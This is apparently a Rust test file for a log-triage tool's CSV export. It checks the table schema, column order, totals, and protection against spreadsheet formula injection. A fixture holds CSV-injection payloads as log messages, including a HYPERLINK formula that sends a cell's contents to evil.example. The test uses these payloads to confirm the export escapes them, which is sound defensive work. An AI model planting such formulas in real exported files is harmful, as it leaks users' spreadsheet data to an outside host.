//! The CSV tables, read back as a spreadsheet reads them.

use std::collections::{BTreeMap, BTreeSet};

use nltriage::{
    render::{Csv, Renderer, Style},
    report::Report,
    scan::ScanOptions,
};

use crate::support::{
    KNOWLEDGE, Logs, fixed_options, otherwise_compressed, sample_report, samples, scan_with, tables,
};

/// Rows of a table, each by the names of its columns.
struct Read {
    header: Vec<String>,
    rows: Vec<BTreeMap<String, String>>,
}

impl Read {
    fn of(bytes: &[u8]) -> Read {
        let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(bytes);
        let header: Vec<_> =
            reader.headers().expect("a header").iter().map(str::to_owned).collect();
        let rows = reader.records().map(|row| {
            let row = row.expect("as many cells as columns");
            header.iter().cloned().zip(row.iter().map(str::to_owned)).collect()
        });
        let rows = rows.collect();
        Read { header, rows }
    }

    fn sum(&self, column: &str) -> u64 {
        self.rows.iter().map(|row| row[column].parse::<u64>().expect("a figure")).sum()
    }
}

fn written(report: &Report, style: &Style) -> BTreeMap<String, Vec<u8>> {
    tables(report, style).into_iter().collect()
}

fn read(report: &Report) -> BTreeMap<String, Read> {
    let files = written(report, &Style::default()).into_iter();
    files
        .filter(|(name, _)| name != "schema.md")
        .map(|(name, bytes)| (name.trim_end_matches(".csv").to_owned(), Read::of(&bytes)))
        .collect()
}

#[test]
fn the_promised_tables_are_there_and_every_column_is_described_once() {
    let report = sample_report("mixed-bag");
    let schema = written(&report, &Style::default()).remove("schema.md").expect("a description");
    let schema = String::from_utf8(schema).expect("UTF-8");
    let tables = read(&report);
    let names: Vec<_> = tables.keys().map(String::as_str).collect();
    let promised = [
        "actions", "checks", "excerpts", "gone", "issues", "modules", "places", "rerun", "sources",
        "timeline", "unparsed",
    ];
    assert_eq!(names, promised);
    for (name, table) in &tables {
        assert_eq!(
            table.header.iter().collect::<BTreeSet<_>>().len(),
            table.header.len(),
            "{name}"
        );
        let start = schema.find(&format!("## {name}.csv")).expect("a section");
        let section = &schema[start + 3..];
        let section = &section[..section.find("\n## ").unwrap_or(section.len())];
        let rows: Vec<_> = section
            .lines()
            .filter_map(|line| line.strip_prefix("| `")?.split('`').next())
            .collect();
        assert_eq!(rows, table.header, "{name}");
        assert!(
            section.lines().all(|line| !line.ends_with("|  |")),
            "{name}: a column without a meaning"
        );
    }
}

#[test]
fn the_description_names_every_compression() {
    let schema = written(&sample_report("mixed-bag"), &Style::default()).remove("schema.md");
    let schema = String::from_utf8(schema.expect("a description")).expect("UTF-8");
    let row = schema.lines().find(|line| line.starts_with("| `compression`")).expect("a row");
    let others = otherwise_compressed(b"x").map(|(_, word, _)| word);
    for word in others.into_iter().chain(["gzip"]) {
        assert!(row.contains(word), "{word}: {row}");
    }
}

#[test]
fn columns_that_were_there_stay_where_they_are() {
    let tables = read(&sample_report("web"));
    let first: BTreeMap<_, _> = BTreeMap::from([
        (
            "issues",
            "rank,id,kind,rule,title,module,area,severity,risk,score,role,codes,template,count,errors,warnings,count_in_outage,count_before,first_seen,last_seen,onset,instances,logged_by,entities,caused_by,status,baseline_count,baseline_minutes,baseline_rate_ratio,baseline_rate_ratio_low,baseline_rate_ratio_high",
        ),
        ("modules", "module,instance,lines,errors,warnings,first_seen,last_seen,silences,restarts"),
        ("timeline", "bucket_start,bucket_seconds,instance,module,level,issue,count"),
        ("actions", "order,issue,module,text,command,risk,verify,reference"),
        ("rerun", "sort,id,instance,reason,last_seen"),
        ("excerpts", "issue,source,line,offset,at,text"),
        (
            "sources",
            "name,format,module,instance,bytes,lines,records,continuation,skipped,errors,warnings,first_seen,last_seen,compression",
        ),
        ("unparsed", "source,line,offset,text"),
        ("gone", "id,kind,rule,title,module,area,severity,count"),
    ]);
    for (name, columns) in first {
        let header = tables[name].header.join(",");
        assert!(header.starts_with(columns), "{name}: {header}");
    }
}

#[test]
fn the_tables_count_what_the_json_counts() {
    for case in samples() {
        let report = sample_report(&case);
        let tables = read(&report);
        let rows = |name: &str| tables[name].rows.len();
        let totals = &report.totals;
        assert_eq!(rows("issues"), report.issues.len(), "{case}");
        assert_eq!(tables["issues"].sum("errors"), totals.error, "{case}");
        assert_eq!(tables["issues"].sum("warnings"), totals.warning, "{case}");
        assert_eq!(tables["issues"].sum("count"), totals.error + totals.warning, "{case}");
        assert_eq!(rows("modules"), report.modules.len(), "{case}");
        assert_eq!(tables["modules"].sum("lines"), totals.lines, "{case}");
        assert_eq!(rows("actions"), report.actions.len(), "{case}");
        let excerpts: usize = report.issues.iter().map(|issue| issue.excerpts.len()).sum();
        assert_eq!(rows("excerpts"), excerpts, "{case}");
        assert_eq!(rows("sources") as u64, totals.sources, "{case}");
        for (column, total) in [
            ("bytes", totals.bytes),
            ("lines", totals.lines),
            ("records", totals.records),
            ("continuation", totals.continuation),
            ("skipped", totals.skipped),
        ] {
            assert_eq!(tables["sources"].sum(column), total, "{case}: {column}");
        }
        assert_eq!(rows("unparsed"), report.coverage.unparsed.len(), "{case}");
        let (of_issues, of_modules): (Vec<_>, Vec<_>) =
            tables["timeline"].rows.iter().partition(|row| !row["issue"].is_empty());
        let sum = |rows: &[&BTreeMap<String, String>]| -> u64 {
            rows.iter().map(|row| row["count"].parse::<u64>().expect("a figure")).sum()
        };
        let series: u64 =
            report.timeline.series.iter().flat_map(|series| series.counts.iter()).sum();
        assert_eq!(sum(&of_modules), series, "{case}");
        let dated: u64 = report
            .issues
            .iter()
            .flat_map(|issue| issue.series.iter())
            .map(|(_, count)| count)
            .sum();
        assert_eq!(sum(&of_issues), dated, "{case}");
    }
}

#[test]
fn a_row_says_what_the_issue_says() {
    let report = sample_report("database-outage");
    let tables = read(&report);
    for (row, issue) in tables["issues"].rows.iter().zip(&report.issues) {
        assert_eq!(row["id"], issue.id);
        assert_eq!(row["rank"], issue.rank.to_string());
        assert_eq!(row["rule"], issue.rule.clone().unwrap_or_default());
        assert_eq!(row["title"], issue.title);
        assert_eq!(row["codes"], issue.codes.join(";"));
        assert_eq!(row["instances"], issue.instances.join(";"));
        assert_eq!(row["caused_by"], issue.caused_by.clone().unwrap_or_default());
        assert_eq!(
            row["first_seen"],
            issue.first_seen.map(|at| at.to_string()).unwrap_or_default()
        );
        assert_eq!(row["score"], issue.score.to_string());
    }
}

#[test]
fn the_single_file_is_the_table_of_issues() {
    let report = sample_report("mixed-bag");
    let mut out = Vec::new();
    Csv.render(&report, &Style::default(), &mut out).expect("memory");
    assert_eq!(out, written(&report, &Style::default())["issues.csv"]);
    let text = String::from_utf8(out).expect("UTF-8");
    assert!(text.lines().count() == report.issues.len() + 1 && text.ends_with("\r\n"));
}

#[test]
fn filters_of_what_is_shown_leave_the_tables_alone() {
    let report = sample_report("mixed-bag");
    let mut style = Style::default();
    style.top = Some(1);
    style.modules = vec!["mta".to_owned()];
    assert_eq!(written(&report, &style), written(&report, &Style::default()));
}

/// A log whose messages are formulas, and a module name that is one.
fn formulas() -> Report {
    let head = "2026-11-18 21:42:07.123+01:00\t00002572\t00007D6C\t1\terror\tlog\t";
    let messages = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+1 rows",
        "-2+3 rows",
        "@SUM(A1:A9) rows",
        "\u{ff1d}1+1 rows",
        "\"=1+1\", quoted",
        "a plain one; with, signs \"of\" CSV",
    ];
    let lines = messages.map(|message| format!("{head}{message}\n"));
    let text = lines.concat();
    let path = "var/=prod/log/mta.log";
    let logs =
        Logs::new([(path, text), ("notes.txt", "=1+1 is text\nsee PGS-220000\n".to_owned())]);
    let sources = vec![
        crate::support::source(path, &logs.path(path), 1),
        crate::support::source("=notes.txt", &logs.path("notes.txt"), 1),
    ];
    let found = nltriage::input::Discovery { sources, ..Default::default() };
    let summary = scan_with(&found, &ScanOptions::default());
    Report::build(&summary, &KNOWLEDGE, &fixed_options("nltriage"))
}

/// What people paste into a shell must be what the rule says.
#[test]
fn steps_of_rules_come_through_as_they_are() {
    let rules = KNOWLEDGE.rules().iter().map(|rule| (&rule.advice().steps, &rule.advice().verify));
    let findings = KNOWLEDGE.findings().iter().map(|finding| (&finding.steps, &finding.verify));
    let mut report = sample_report("mixed-bag");
    let first = report.actions[0].clone();
    report.actions.clear();
    for (steps, verify) in rules.chain(findings) {
        // As names that are not known are shown.
        let verify = verify.replace('{', "<").replace('}', ">");
        report.actions.extend(steps.iter().map(|step| {
            let (text, command) = (step.text.clone(), step.command.clone());
            nltriage::report::Action { text, command, verify: verify.clone(), ..first.clone() }
        }));
    }
    let table = &read(&report)["actions"];
    assert!(table.rows.len() > 1_000 && table.rows.len() == report.actions.len());
    for (row, action) in table.rows.iter().zip(&report.actions) {
        for (column, expected) in
            [("text", &action.text), ("command", &action.command), ("verify", &action.verify)]
        {
            let cell = &row[column];
            assert!(cell == expected || *cell == format!("'{expected}"), "{cell}\n{expected}");
        }
    }
}

#[test]
fn no_cell_is_run_by_a_spreadsheet() {
    let report = formulas();
    assert!(report.issues.len() >= 7);
    let mut guarded = 0;
    for (name, table) in read(&report) {
        for row in &table.rows {
            for (column, cell) in row {
                let first =
                    cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"').chars().next();
                let runs = matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠'));
                // A figure with its sign is no formula; there are none below zero.
                assert!(!runs, "{name}.{column}: {cell}");
                guarded += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(guarded >= 14, "{guarded} cells are guarded");
}

#[test]
fn formulas_stay_when_the_user_says_so() {
    let mut style = Style::default();
    style.csv_raw = true;
    let table = Read::of(&written(&formulas(), &style)["excerpts.csv"]);
    let texts: BTreeSet<_> = table.rows.iter().map(|row| row["text"].as_str()).collect();
    assert!(
        texts.contains("+1+1 rows") && texts.contains("a plain one; with, signs \"of\" CSV"),
        "{texts:?}"
    );
}
